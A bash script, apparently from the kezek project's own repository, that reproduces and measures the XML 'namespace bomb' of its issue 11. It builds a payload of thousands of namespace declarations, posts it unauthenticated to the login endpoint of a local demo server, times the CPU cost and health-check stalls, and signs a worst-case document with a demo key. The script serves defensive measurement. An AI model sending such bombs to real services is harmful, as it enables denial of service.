#!/usr/bin/env bash
# The namespace bomb of issue 11 against a release `kezek serve --demo`: a login body of about
# 80 KB (a root with 4 000 xmlns:pN declarations and 500 children declaring one more each), sent
# unauthenticated to POST /api/v1/auth/login. Prints the answer, its wall time and the server's
# CPU time for it (utime+stime from /proc/<pid>/stat), then whether /healthz answered while two
# bombs were in flight. Last, the costliest document we could make within the default limits
# (1 MB: 63 namespaces in scope, 2 300 elements with 31 prefixed attributes each), signed with a
# demo key and timed through `kezek xml verify`.
#
#   scripts/measure-xml-bomb.sh [path/to/release/kezek]
set -euo pipefail
cd "$(dirname "$0")/.."
kezek=${1:-target/release/kezek}
work=$(mktemp -d)
port=$((20000 + RANDOM % 20000))
cleanup() { [ -n "${server:-}" ] && kill "$server" 2>/dev/null; rm -rf "$work"; }
trap cleanup EXIT

python3 - "$work/bomb.json" <<'PY'
import json, sys
root = " ".join(f'xmlns:p{i}="urn:b:{i}"' for i in range(4000))
children = "".join(f'<c xmlns:q{i}="urn:c:{i}"/>' for i in range(500))
xml = f'<login xmlns="urn:kezek:v1" {root}>{children}</login>'
json.dump({"signed_xml": xml}, open(sys.argv[1], "w"))
PY
echo "body: $(stat -c %s "$work/bomb.json") bytes"

"$kezek" serve --demo --demo-applications 0 --listen "127.0.0.1:$port" \
    --db "sqlite://$work/k.db" >"$work/serve.log" 2>&1 &
server=$!
for _ in $(seq 100); do
    curl -sf "http://127.0.0.1:$port/healthz" >/dev/null && break
    sleep 0.1
done
ticks=$(getconf CLK_TCK)
cpu() { awk '{print $14 + $15}' "/proc/$server/stat"; }

before=$(cpu)
curl -s -o "$work/answer" -w 'status %{http_code}, %{time_total} s\n' \
    -H 'content-type: application/json' --data-binary "@$work/bomb.json" \
    "http://127.0.0.1:$port/api/v1/auth/login"
after=$(cpu)
echo "answer: $(head -c 300 "$work/answer")"
echo "server CPU for one bomb: $(( (after - before) * 1000 / ticks )) ms"

bombs=()
for _ in 1 2; do
    curl -s -o /dev/null -H 'content-type: application/json' --data-binary "@$work/bomb.json" \
        "http://127.0.0.1:$port/api/v1/auth/login" &
    bombs+=($!)
done
sleep 0.2
curl -s -o /dev/null -w 'healthz with two bombs in flight: %{http_code} in %{time_total} s\n' \
    --max-time 30 "http://127.0.0.1:$port/healthz"
wait "${bombs[@]}"

python3 - "$work/worst.xml" <<'PY'
import sys
declare = lambda base, n: " ".join(f'xmlns:n{base + i}="urn:x:{base + i}"' for i in range(n))
children = "".join(
    "<c " + " ".join(f'n{(j + k) % 62}:a{k}="{j}"' for k in range(31)) + "/>" for j in range(2300))
xml = (f'<r xmlns="urn:kezek:v1" {declare(0, 15)}><a {declare(15, 16)}><b {declare(31, 16)}>'
       f'<d {declare(47, 15)}>{children}</d></b></a></r>')
open(sys.argv[1], "w").write(xml)
PY
read -r file password < <(python3 -c "
import json
for e in json.load(open('keystores-example/index.json')):
    if (e['usage'], e['status'], e['format']) == ('SIGN', 'valid', 'openssl3'):
        print(e['file'], e['password']); break")
printf '%s\n' "$password" >"$work/password"
"$kezek" xml sign --keystore "keystores-example/$file" --password-file "$work/password" \
    "$work/worst.xml" -o "$work/worst-signed.xml"
echo "costliest document within the limits: $(stat -c %s "$work/worst-signed.xml") bytes"
for _ in 1 2 3; do
    /usr/bin/time -f "verify (a whole process): %e s wall, %U s user, %M KB peak" \
        "$kezek" xml verify --no-chain "$work/worst-signed.xml" >/dev/null
done
